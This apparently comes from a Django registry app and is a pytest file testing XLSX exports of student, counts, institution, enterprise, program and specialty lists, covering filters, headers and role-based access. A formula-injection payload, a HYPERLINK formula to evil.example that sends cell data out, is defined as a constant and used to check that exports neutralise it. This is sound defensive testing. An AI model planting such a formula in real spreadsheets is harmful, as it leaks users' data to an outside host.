"""The registry's lists as XLSX: exactly the rows each page shows the user with its filters
(across all its pages), headers in the request's language, no cell a formula, nothing the
user may not see."""

import re

import pytest

from qadam.common.models import Job
from qadam.common.tests.exporting import (
    column,
    export_cells,
    export_post,
    export_values,
    no_formula,
    values,
)
from qadam.registry.tests.factories import (
    EnterpriseFactory,
    InstitutionFactory,
    StudentFactory,
)

HTMX = {"HTTP_HX_REQUEST": "true"}
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
PEOPLE_ROLES = ["ministry_admin", "college_admin_a", "university_admin", "student"]


@pytest.fixture
def capture(django_capture_on_commit_callbacks):
    return django_capture_on_commit_callbacks


@pytest.fixture
def export(client_for, django_capture_on_commit_callbacks):
    """export(user, name, **params) -> the sheet's values, header first."""

    def run(user, name, **params):
        return export_values(client_for(user), django_capture_on_commit_callbacks, name, **params)

    return run


def page_iins(client, path, **params):
    """The IINs in a list page's table, every row on one page."""
    table = re.search(
        r'data-testid="results">(.*?)</table>', client.get(path, params).content.decode(), re.S
    )
    return sorted(re.findall(r"<td>(\d{12})</td>", table.group(1)))


# --------------------------------------------------------------------------- students


@pytest.mark.parametrize("role", PEOPLE_ROLES)
@pytest.mark.parametrize("filters", [{}, {"funding": "paid"}, {"q": "Аб"}, {"year_of_study": "2"}])
def test_the_students_export_holds_exactly_the_pages_rows(
    world, users, client_for, export, settings, role, filters
):
    settings.QADAM_PAGE_SIZE = 1000
    shown = page_iins(client_for(users[role]), "/registry/students/", **filters)
    rows = export(users[role], "registry.students", **filters)
    assert sorted(column(rows, "ИИН")) == shown
    assert len(rows) - 1 == len(shown)
    if role == "ministry_admin" and not filters:
        assert len(shown) == len(world.all_students) == 8


def test_the_students_export_spans_every_page_of_the_list(world, users, export, settings):
    settings.QADAM_PAGE_SIZE = 1
    rows = export(users["college_admin_a"], "registry.students", region=world.region_a.pk)
    assert sorted(column(rows, "ИИН")) == sorted(s.iin for s in world.students_a[:2])


def test_the_students_export_has_the_imports_columns_in_the_requests_language(world, users, export):
    rows = export(users["college_admin_a"], "registry.students", funding="paid")
    assert rows[0] == [
        "ИИН",
        "Фамилия",
        "Имя",
        "Отчество",
        "Регион (КАТО)",
        "Код организации образования",
        "Код специальности",
        "Язык обучения",
        "Форма обучения",
        "Курс",
        "Источник финансирования",
        "Статус",
        "Дата зачисления",
        "Ожидаемая дата окончания",
        "Средний балл успеваемости",
        "Из сельской местности",
        "Лицо с инвалидностью",
    ]
    student = world.students_a[1]
    assert rows[1][:2] == [student.iin, "Бекова"]
    assert rows[1][4:7] == ["91", world.college_a.code, student.program.specialty.code]
    assert rows[1][9:12] == [2, "платное обучение", "обучается"]


def test_a_formula_in_a_surname_comes_out_as_text(world, users, client_for, capture):
    StudentFactory(institution=world.college_a, program=world.programs_a[0], last_name=FORMULA)
    cells = export_cells(client_for(users["college_admin_a"]), capture, "registry.students")
    surnames = [row[1] for row in cells[1:]]
    cell = next(c for c in surnames if "HYPERLINK" in str(c.value))
    assert (cell.data_type, cell.value) == ("s", "'" + FORMULA)
    assert no_formula(cells)


@pytest.mark.parametrize("role", ["analyst", "enterprise_hr", "guidance_organiser"])
def test_roles_that_see_no_names_cannot_export_students(world, users, client_for, capture, role):
    response, job = export_post(client_for(users[role]), capture, "registry.students")
    assert response.status_code == 403 and job is None


def test_a_college_cannot_export_another_colleges_students(world, users, export):
    rows = export(users["college_admin_a"], "registry.students", institution=world.college_b.pk)
    assert rows[1:] == []


def test_the_students_button_carries_the_filters_of_the_rows_on_screen(world, users, client_for):
    client = client_for(users["ministry_admin"])
    partial = client.get("/registry/students/", {"funding": "paid", "page": "1"}, **HTMX)
    form = re.search(
        r'<form[^>]*data-exporter="registry.students".*?</form>', partial.content.decode(), re.S
    )
    assert form is not None
    assert '<input type="hidden" name="funding" value="paid">' in form.group(0)
    assert 'name="page"' not in form.group(0)


# --------------------------------------------------------------------------- counts


def test_the_analyst_exports_the_counts_page_and_no_person(world, users, client_for, export):
    client = client_for(users["analyst"])
    page = client.get("/registry/students/", {"by": "funding", "region": world.region_a.pk})
    assert 'data-exporter="registry.student_counts"' in page.content.decode()
    rows = export(
        users["analyst"], "registry.student_counts", by="funding", region=world.region_a.pk
    )
    assert rows[0] == ["источник финансирования", "студенты"]
    # region A: students_a[0..1] and the university student (state order, paid, state order):
    # counts below 5 are "<5" to an analyst
    assert rows[1:] == [["госзаказ", "<5"], ["платное обучение", "<5"]]
    text = " ".join(str(value) for row in rows for value in row)
    assert not any(s.iin in text or s.last_name in text for s in world.all_students)


@pytest.mark.parametrize("role", ["enterprise_hr", "guidance_organiser"])
def test_roles_without_counts_cannot_export_them(world, users, client_for, capture, role):
    response, job = export_post(client_for(users[role]), capture, "registry.student_counts")
    assert response.status_code == 403 and job is None


def test_an_unknown_grouping_is_400(world, users, client_for, capture):
    response, job = export_post(
        client_for(users["analyst"]), capture, "registry.student_counts", by="iin"
    )
    assert response.status_code == 400 and job is None


# --------------------------------------------------------------------------- organisations


def test_the_institutions_export_keeps_the_kind_and_search(world, users, export):
    rows = export(users["guidance_organiser"], "registry.institutions", kind="university")
    assert rows[0] == ["наименование", "тип", "регион", "языки обучения"]
    assert column(rows, "наименование") == [world.university.name_ru]
    rows = export(users["guidance_organiser"], "registry.institutions", q=world.branch.name_en)
    assert column(rows, "наименование") == [f"{world.branch.name_ru} ({world.university.name_ru})"]


def test_a_hostile_enterprise_name_is_neutralised(world, users, client_for, capture):
    EnterpriseFactory(name=FORMULA, region=world.region_b, sector="construction")
    cells = export_cells(
        client_for(users["enterprise_hr"]), capture, "registry.enterprises", sector="construction"
    )
    rows = values(cells)
    assert rows[0] == ["наименование", "БИН", "отрасль", "размерность", "регион"]
    assert column(rows, "наименование") == ["'" + FORMULA]
    assert column(rows, "регион") == ["Бета"]
    assert no_formula(cells)


def test_the_programs_export_filters_by_specialty_and_by_institution(world, users, export):
    specialty = world.programs_a[0].specialty
    rows = export(users["analyst"], "registry.programs", specialty=specialty.pk)
    assert column(rows, "Код организации образования") == [world.college_a.code]
    assert column(rows, "Места по госзаказу на первый курс") == [
        world.programs_a[0].state_funded_seats
    ]
    rows = export(users["analyst"], "registry.programs", institution=world.college_b.pk)
    assert len(rows) - 1 == len(world.programs_b)


def test_the_institution_page_exports_its_programs(world, users, client_for):
    page = client_for(users["analyst"]).get(f"/registry/institutions/{world.college_a.pk}/")
    form = re.search(
        r'<form[^>]*data-exporter="registry.programs".*?</form>', page.content.decode(), re.S
    )
    assert f'name="institution" value="{world.college_a.pk}"' in form.group(0)


def test_the_specialties_export_keeps_the_search(world, users, export):
    specialty = world.programs_b[1].specialty
    rows = export(users["student"], "registry.specialties", q=specialty.code)
    assert column(rows, "код") == [specialty.code]
    assert rows[1][4] == "нет"  # not technical


@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/registry/institutions/", "registry.institutions"),
        ("/registry/enterprises/", "registry.enterprises"),
        ("/registry/programs/", "registry.programs"),
        ("/registry/specialties/", "registry.specialties"),
        ("/registry/students/", "registry.students"),
    ],
)
def test_each_list_page_offers_its_export(world, users, client_for, path, name):
    page = client_for(users["ministry_admin"]).get(path).content.decode()
    assert f'data-exporter="{name}"' in page
    assert not Job.objects.exists()


def test_a_new_institution_appears_in_the_next_export(world, users, export):
    InstitutionFactory(school=True, region=world.region_a, name_ru="Школа №1")
    rows = export(users["analyst"], "registry.institutions", kind="school")
    assert column(rows, "наименование") == ["Школа №1"]
